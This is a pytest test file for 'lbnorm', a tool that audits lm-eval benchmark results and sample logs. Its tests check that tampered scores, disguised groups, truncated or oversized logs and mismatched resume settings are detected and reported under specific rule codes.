    """rows.number, which rows and groups share: an integer no float holds is blank, never an OverflowError
    (results files refuse one as LB109 before; this keeps any other path from raising)."""
    from validator.survey.rows import number

    assert number(value) == shown if shown is not None else number(value) is None


def _grouped_run(tmp_path: Path, edit) -> tuple[list[dict], subprocess.CompletedProcess]:
    """One clean run whose results file declares a group `grp` of its two tasks, edited by `edit(data)`."""
    root = tmp_path / "runs"
    make_corpus(root, runs=1, seed=3, fault_rate=0)
    results = next(root.glob("*/results_*.json"))
    data = json.loads(results.read_text(encoding="utf-8"))
    data["group_subtasks"] = {"grp": ["arc_easy", "drop"]}
    data["results"]["grp"] = {
        "acc,none": data["results"]["arc_easy"]["acc,none"],
        "f1,none": data["results"]["drop"]["f1,none"],
        "alias": "grp",
    }
    edit(data)
    if "arc_easy" not in data["configs"]:  # hidden: its log goes too
        next(results.parent.glob("samples_arc_easy_*.jsonl")).unlink()
    results.write_text(json.dumps(data, indent=2), encoding="utf-8")
    result = lbnorm("survey", str(root), "--out", str(tmp_path / "out"), "--no-plots")
    return read_jsonl(tmp_path / "out" / "survey.jsonl"), result


def _hide_arc_easy(declare):
    def edit(data):
        data["results"]["arc_easy"]["acc,none"] = 0.99
        del data["configs"]["arc_easy"]
        declare(data)

    return edit


GROUP_CASES = {
    # case: (edit, exit code, {task: (status, rules)})
    "honest group": (lambda data: None, 0, {"grp": ("group", {})}),
    "group value raised": (
        lambda data: data["results"]["grp"].update({"acc,none": 0.99}),
        1,
        {"grp": ("group", {"LB404": 1})},
    ),
    "tampered task declared a group without subtasks": (
        _hide_arc_easy(lambda data: data["group_subtasks"].update(arc_easy=[])),
        1,
        {"arc_easy": ("no log", {"LB707": 1})},
    ),
    "tampered task declared a group in 'groups' only": (
        _hide_arc_easy(lambda data: data.update(groups={"arc_easy": {"acc,none": 0.99}})),
        1,
        {"arc_easy": ("no log", {"LB707": 1})},
    ),
    "a group of lm-eval before 0.4.2 (no group_subtasks): not re-derivable, said so": (
        lambda data: (
            data.pop("group_subtasks"),
            data.update(groups={"grp": dict(data["results"]["grp"])}),
        ),
        1,
        {"grp": ("group", {"LB404": 1})},
    ),
    "tampered task declared a group of another task": (
        _hide_arc_easy(lambda data: data["group_subtasks"].update(arc_easy=["drop"])),
        1,
        {"arc_easy": ("group", {"LB404": 2})},
    ),  # its acc and acc_norm: drop has neither
}


@pytest.mark.parametrize("case", sorted(GROUP_CASES))
def test_groups_are_re_derived_from_their_subtasks_and_cannot_hide_a_task(tmp_path, case):
    """A group has no log: its value must be its subtasks' pool (LB404). Declaring a tampered task a group
    (which must not give exit 0 and no row) makes it a task without a log, or a group its subtasks do not give."""
    edit, code, expected = GROUP_CASES[case]
    rows, result = _grouped_run(tmp_path, edit)
    assert result.returncode == code, result.stdout + result.stderr
    by_task = {row["task"]: row for row in rows}
    for task, (status, rules) in expected.items():
        assert (by_task[task]["status"], by_task[task]["rules"]) == (status, rules), by_task[task]


def test_a_published_group_score_is_compared_with_its_subtasks_pool(tmp_path):
    root = tmp_path / "runs"
    _grouped_run(tmp_path, lambda data: None)
    results = next(root.glob("*/results_*.json"))
    pooled = json.loads(results.read_text(encoding="utf-8"))["results"]["arc_easy"]["acc,none"]
    manifest = root / "board.csv"
    manifest.write_text(
        f"results,grp/acc\n{results.relative_to(root).as_posix()},{pooled!r}\n", encoding="utf-8"
    )
    result = lbnorm("survey", str(manifest), "--out", str(tmp_path / "out2"), "--no-plots")
    assert result.returncode == 0, result.stdout + result.stderr
    [row] = [row for row in read_jsonl(tmp_path / "out2" / "survey.jsonl") if row["task"] == "grp"]
    assert (row["status"], row["published"], row["reproduced"]) == ("group", pooled, True)


def test_a_failing_unit_is_a_row_not_a_hole(tmp_path):
    root = tmp_path / "runs"
    make_corpus(root, runs=2, seed=3, fault_rate=0)
    results = next(root.glob("*/results_*.json"))
    results.write_text("{not json", encoding="utf-8")
    outcome = survey([str(root)], tmp_path / "out", LocalPool(1))
    broken = [row for row in outcome.rows if row["run"].startswith(results.parent.name)]
    assert [(row["task"], row["status"]) for row in broken] == [
        ("", "unreadable results"),
        ("arc_easy", "not audited"),
        ("drop", "not audited"),
    ]
    assert broken[0]["rules"] == {"LB102": 1}


# --- the stream reader used for remote logs -------------------------------------------------------


class Chunks:
    """A forward-only stream handing out a few bytes at a time, like a network response."""

    def __init__(self, data: bytes, size: int = 7):
        self.data, self.size = data, size

    def read(self, _size: int = -1) -> bytes:
        chunk, self.data = self.data[: self.size], self.data[self.size :]
        return chunk


@pytest.mark.parametrize(
    "size", [1, 2, 3, 7]
)  # a network read may hand out the BOM alone, or part of it
def test_stream_records_match_lines_across_chunk_borders(size):
    data = b'\xef\xbb\xbf{"doc_id": 0}\n\n{"doc_id": 1, "text": "caf\xc3\xa9"}\n{"doc_id": 2}'
    records = list(stream_records(Chunks(data, size), Limits()))
    assert [(r.index, r.line, r.data["doc_id"]) for r in records] == [
        (0, 1, 0),
        (1, 3, 1),
        (2, 4, 2),
    ]


@pytest.mark.parametrize(
    "data, line",
    [
        (b"\n" * 5, 4),  # nothing but blank lines
        (b" \r\n" * 5 + b'{"doc_id": 0}\n', 4),  # before the first record
        (b'{"doc_id": 0}\n' + b"\n" * 5 + b'{"doc_id": 1}\n', 5),  # between records
        (b'{"doc_id": 0}\n\n\n\n{"doc_id": 1}\n', None),  # three: within the budget
    ],
)
def test_blank_lines_count_against_the_record_budget_local_and_streamed(tmp_path, data, line):
    """Blank lines are not records, yet each costs a read, so each counts against the record budget:
    gigabytes of newlines cannot take minutes to read and then pass as ok."""
    limits = Limits(max_log_records=3)
    log = tmp_path / "samples_x_2024-01-01T00-00-00.jsonl"
    log.write_bytes(data)
    for read in (
        lambda: list(read_records(log, limits)),
        lambda: list(stream_records(Chunks(data), limits)),
    ):
        if line is None:
            assert [record.data["doc_id"] for record in read()] == [0, 1]
            continue
        with pytest.raises(DocumentError) as error:
            read()
        assert (error.value.rule, error.value.line) == (
            "LB106",
            line,
        ) and "more than 3 blank lines" in error.value.message


def test_a_remote_log_has_the_local_readers_record_limit(tmp_path):
    data = b"".join(b'{"doc_id": %d}\n' % n for n in range(6))
    limits = Limits(max_log_records=5)
    with pytest.raises(DocumentError) as streamed:
        list(stream_records(Chunks(data), limits))
    (tmp_path / "log.jsonl").write_bytes(data)
    with pytest.raises(DocumentError) as local:
        list(read_records(tmp_path / "log.jsonl", limits))
    assert (
        (streamed.value.rule, streamed.value.line)
        == (local.value.rule, local.value.line)
        == ("LB106", 6)
    )


@pytest.mark.parametrize(
    "data, rule, line",
    [
        (b'{"doc_id": 0}\n{"doc_id": \n', "LB701", 2),
        (b'{"doc_id": 0}\n{"doc_id": 1, "x": "' + b"a" * 200 + b'"}\n', "LB106", 2),
        (b'[{"doc_id": 0}]', "LB701", 1),
        (b'{"doc_id": 0}\n\xff\n', "LB701", 2),
    ],
)
def test_stream_records_refuse_bad_lines_with_rule_and_line(data, rule, line):
    with pytest.raises(DocumentError) as error:
        list(stream_records(Chunks(data), Limits(max_file_bytes=100)))
    assert (error.value.rule, error.value.line) == (rule, line)


@pytest.mark.parametrize(
    "data, message",
    [
        (
            b'{"doc_id": 0}\n{"doc_id": 1, "do',
            "the log is cut off: its last line ends without a newline",
        ),
        (b'{"doc_id": 0}\n{"doc_id": 1, "do\n', "not valid JSON: "),
        (b'{"doc_id": 0}\n{"doc_id": 1, "do\n{"doc_id": 2}\n', "not valid JSON: "),
        (
            b'{"doc_id": 0}\n{"doc_id": 1, "text": "caf\xc3',
            "the log is cut off: its last line ends without a newline",
        ),
        (b'{"doc_id": 0}\n{"doc_id": 1} x', "not valid JSON: Extra data"),
    ],
    ids=[
        "cut while written",
        "broken line, newline after it",
        "broken line in the middle",
        "cut inside a character",
        "a whole record and garbage",
    ],
)
def test_a_log_cut_mid_record_says_it_was_cut_off_local_and_streamed(data, message, tmp_path):
    (tmp_path / "log.jsonl").write_bytes(data)
    with pytest.raises(DocumentError) as local:
        list(read_records(tmp_path / "log.jsonl", Limits()))
    with pytest.raises(DocumentError) as streamed:
        list(stream_records(Chunks(data), Limits()))
    for error in (local.value, streamed.value):
        assert (error.rule, error.line) == ("LB701", 2) and error.message.startswith(message), (
            error.message
        )


@pytest.mark.parametrize(
    "data, rule, line",
    [
        (
            b'{"doc_id": 0}\n{"x": ' + b"[" * 9 + b"]" * 9 + b"}\n",
            "LB108",
            2,
        ),  # deeper than max_depth 8
        (
            b'{"doc_id": 0, "x": [' + b"0," * 20 + b"0]}\n",
            "LB112",
            1,
        ),  # more values than max_values 16
    ],
    ids=["too deep", "too many values"],
)
def test_a_remote_log_has_the_local_readers_budgets(data, rule, line, tmp_path):
    """Nesting and value counts are refused in a streamed log as in a local one: same rule, same line."""
    limits = Limits(max_depth=8, max_values=16)
    with pytest.raises(DocumentError) as streamed:
        list(stream_records(Chunks(data), limits))
    (tmp_path / "log.jsonl").write_bytes(data)
    with pytest.raises(DocumentError) as local:
        list(read_records(tmp_path / "log.jsonl", limits))
    assert (
        (streamed.value.rule, streamed.value.line)
        == (local.value.rule, local.value.line)
        == (rule, line)
    )


def test_numbers_json_cannot_hold_become_blanks_not_a_crash(tmp_path):
    """A submitter's 1.7e308 against a logged mean of -2.8e307: the difference is inf; the row still goes in."""
    root = tmp_path / "runs"
    make_corpus(root, runs=1, seed=3, fault_rate=0)
    results = next(root.glob("*/results_*.json"))
    data = json.loads(results.read_text(encoding="utf-8"))
    data["results"]["arc_easy"]["acc,none"] = 1.7e308
    results.write_text(json.dumps(data), encoding="utf-8")
    log = next(root.glob("*/samples_arc_easy_*.jsonl"))
    lines = [json.loads(line) for line in log.read_text(encoding="utf-8").splitlines()]
    lines[0][
        "acc"
    ] = -1.7e308  # the mean of the logged values: about -2.8e307; 1.7e308 away from that is inf
    log.write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")
    outcome = survey([str(root)], tmp_path / "out", LocalPool(1))
    row = next(row for row in outcome.rows if row["task"] == "arc_easy")
    assert row["max_abs_diff"] is None and "LB709" in row["rules"]
    assert all(
        isinstance(entry["rows"], list) for entry in read_jsonl(tmp_path / "out" / JOURNAL_NAME)
    )


def test_a_survey_is_not_resumed_with_other_settings(corpus, tmp_path):
    """Rows written under one --published-scale (or limit, or lbnorm version) must not be mixed with another's."""
    # Every survey here is a fresh process, so each reads the lbnorm version as installed now.
    args = ["survey", str(corpus[0]), "--out", str(tmp_path), "--workers", "1", "--no-plots"]
    assert lbnorm(*args).returncode == 1  # the planted faults
    journal = (tmp_path / JOURNAL_NAME).read_bytes()
    result = lbnorm(*args, "--resume", "--published-scale", "100")
    assert result.returncode == 2
    assert (
        f"Error: {tmp_path} was surveyed with other settings (published_scale 1.0 then, 100.0 now); resume "
        "with the same options and lbnorm version, or choose another --out"
    ) in result.stderr
    assert (tmp_path / JOURNAL_NAME).read_bytes() == journal  # nothing lost, nothing added
    again = lbnorm(*args, "--resume")  # the same settings resume
    assert again.returncode == 1 and f"({len(journal.splitlines()):,} resumed)" in again.stdout


def test_a_journal_without_its_settings_is_not_resumed(corpus, tmp_path):
    survey([str(corpus[0])], tmp_path, LocalPool(1))  # refused before any version is compared
    (tmp_path / SETTINGS_NAME).unlink()  # as an earlier lbnorm left it
    result = lbnorm("survey", str(corpus[0]), "--out", str(tmp_path), "--resume", "--no-plots")
    assert result.returncode == 2
    assert f"{tmp_path} holds a survey without a readable {SETTINGS_NAME}" in result.stderr


BOARD = """profile_format: 1
name: survey-board
title: Survey board
average: {order: [arc]}
benchmarks:
  - id: arc
    name: ARC
    output_type: multiple_choice
    aggregation: mean_of_subtasks
    metrics: [acc]
    tasks:
      - {task: arc_easy, num_choices: %d}
"""


def test_a_profile_makes_every_log_prove_its_choice_count(tmp_path):
    """LB715 exactly where a log's largest choice count per doc is not the profile's (docs have 2 to 5 choices)."""
    root = tmp_path / "corpus"
    expected = make_corpus(root, runs=12, seed=23)
    largest = {}  # run -> the most choices any arc_easy doc of its log was scored on
    for log in root.glob("*/samples_arc_easy_*.jsonl"):
        counts = [
            len(json.loads(line)["arguments"])
            for line in log.read_text(encoding="utf-8").splitlines()
            if line.strip().endswith("}")
        ]  # a log cut off mid-line (a planted fault) ends without one
        largest[log.parent.name] = max(counts)
    assert set(largest.values()) >= {4, 5}, "the corpus must hold both kinds of log"
    for count in (4, 5):
        (tmp_path / f"board{count}.yaml").write_text(BOARD % count, encoding="utf-8")
        result = lbnorm(
            "survey",
            str(root),
            "--out",
            str(tmp_path / f"out{count}"),
            "--workers",
            "1",
            "--no-plots",
            "--profile-file",
            str(tmp_path / f"board{count}.yaml"),
        )
        assert result.returncode == 1, result.stderr  # the planted faults
        rows = read_jsonl(tmp_path / f"out{count}" / "survey.jsonl")
        flagged = {row["run"].split("/")[0] for row in rows if "LB715" in row["rules"]}
        audited = {
            row["run"].split("/")[0]
            for row in rows  # a log cut off (LB701) proves no count
            if row["task"] == "arc_easy" and row["samples"] and "LB701" not in row["rules"]
        }
        assert flagged == {run for run in audited if largest[run] != count}
        without = [
            {**row, "rules": {r: n for r, n in row["rules"].items() if r != "LB715"}}
            for row in rows
        ]
        assert_finds_exactly_the_planted_faults(without, expected)  # nothing else changes


SPLIT_BOARD = BOARD.replace("num_choices: %d}", "num_choices: 5, n: %d}")


@pytest.mark.parametrize("split, flagged", [(6, "both_counts_cut"), (7, "every_run")])
def test_a_profile_holds_each_logged_task_to_its_split(tmp_path, split, flagged):
    """A log shortened with n-samples.original and .effective both edited (and the aggregates and the task hash)
    agrees with itself and with every count: only the profile's split size (LB718) tells. An honest --limit run
    (its original the whole split) is not flagged; with a split of 7, every arc_easy log of 6 is."""
    root = tmp_path / "corpus"
    expected = make_corpus(root, runs=8, seed=5)
    tampered = next(run for (run, task), want in expected.items() if want["fault"] == "hidden_cut")
    results_path = root / tampered
    results = json.loads(results_path.read_text(encoding="utf-8"))
    results["n-samples"]["arc_easy"]["original"] = 5  # now 5 of 5: LB717 no longer sees it
    results_path.write_text(json.dumps(results, indent=2), encoding="utf-8")
    (tmp_path / "board.yaml").write_text(SPLIT_BOARD % split, encoding="utf-8")
    plain = lbnorm(
        "survey", str(root), "--out", str(tmp_path / "plain"), "--workers", "1", "--no-plots"
    )
    held = lbnorm(
        "survey",
        str(root),
        "--out",
        str(tmp_path / "held"),
        "--workers",
        "1",
        "--no-plots",
        "--profile-file",
        str(tmp_path / "board.yaml"),
    )
    assert plain.returncode == held.returncode == 1, (
        held.stderr
    )  # the corpus's other planted faults
    unheld = {
        row["run"]
        for row in read_jsonl(tmp_path / "plain" / "survey.jsonl")
        if "LB718" in row["rules"]
    }
    rows = read_jsonl(tmp_path / "held" / "survey.jsonl")
    lb718 = {row["run"]: row for row in rows if "LB718" in row["rules"]}
    logged = {row["run"] for row in rows if row["task"] == "arc_easy" and row["log"]}
    assert unheld == set()
    assert set(lb718) == ({tampered} if flagged == "both_counts_cut" else logged)
    if flagged == "both_counts_cut":
        assert lb718[tampered]["rules"]["LB718"] == 1 and "LB717" not in lb718[tampered]["rules"]


def test_a_survey_takes_one_profile_at_a_time(corpus, tmp_path):
    result = lbnorm(
        "survey",
        str(corpus[0]),
        "--out",
        str(tmp_path),
        "--profile",
        "open-llm-leaderboard-v1",
        "--profile-file",
        "board.yaml",
    )
    assert result.returncode == 2
    assert "give either --profile or --profile-file, not both" in result.stderr


@pytest.mark.parametrize(
    "published, reproduced",
    [
        (40.62, True),
        (40.63, True),
        (40.625, True),
        (40.61, False),
        (40.64, False),
        (40.6149, False),
    ],
)
def test_a_published_percent_is_reproduced_exactly_when_it_rounds_the_rederived_score(
    published, reproduced
):
    """0.40625 x 100 is 40.625: 40.62 and 40.63 both round it to two decimals, although in binary floating point
    they are 0.005000000000002558 away."""
    from validator.survey.published import compare
    from validator.survey.summary import _unreproduced

    row = {
        "run": "org__m/results_x.json",
        "model": "org/m",
        "task": "arc",
        "metric": "acc_norm,none",
        "recomputed": 0.5,
        "metrics": {"acc,none": {"recomputed": 0.40625, "from_samples": 0.40625}},
    }
    row = compare(row, (("arc", "acc", published),), "arc", 100, 0.005)
    assert row["published_metric"] == "acc,none" and row["reproduced"] is reproduced
    if (
        not reproduced
    ):  # the summary shows the re-derived score in the published scale, not as a fraction
        ((_, _, _, _, shown, rederived, difference),) = _unreproduced([row])[3]
        assert (shown, rederived) == (f"{published:.4f}", "40.6250")
        assert difference == f"{published - 40.625:.4f}"


def test_a_row_shows_the_results_files_first_metric_when_no_usual_headline_is_there():
    """gsm8k logs exact_match under two filters; strict-match comes first in the results file, and leads the row."""
    from validator.audit.model import MetricAudit, TaskAudit
    from validator.survey.rows import task_row

    audit = TaskAudit("gsm8k", "samples_gsm8k.jsonl")
    audit.metrics = [
        MetricAudit("exact_match,strict-match", 0.25),
        MetricAudit("exact_match,flexible-extract", 0.5),
    ]
    row = task_row("run", "model", "gsm8k", "log", audit, [])
    assert (row["metric"], row["reported"]) == ("exact_match,strict-match", 0.25)


def test_what_the_audit_could_not_check_is_on_the_row_and_in_the_summary(tmp_path):
    """An "ok" row whose prompts could not be rebuilt (a doc_to_text of a shape lbnorm does not evaluate) says
    so in the table: the audit's notes reach the row."""
    task = hl.drop_task([" 10", " 11"], [[["10"]], [["11"]]])
    task.config["doc_to_text"] = "{{passage|upper}} {{question}}"
    hl.write_run(tmp_path / "runs" / "org__model", [task])
    assert (
        lbnorm(
            "survey",
            str(tmp_path / "runs"),
            "--out",
            str(tmp_path / "out"),
            "--workers",
            "1",
            "--no-plots",
        ).returncode
        == 0
    )
    [row] = read_jsonl(tmp_path / "out" / "survey.jsonl")
    assert (
        row["status"] == "ok" and "prompts not rebuilt from the docs: a doc_to_text" in row["notes"]
    )
    summary = (tmp_path / "out" / "summary.md").read_text(encoding="utf-8")
    assert (
        "## Checks not made\n\n1 rows carry notes" in summary
        and "| prompts not rebuilt from the docs" in summary
    )
    with open(tmp_path / "out" / "survey.csv", newline="", encoding="utf-8") as handle:
        assert next(csv.DictReader(handle))["notes"] == row["notes"]
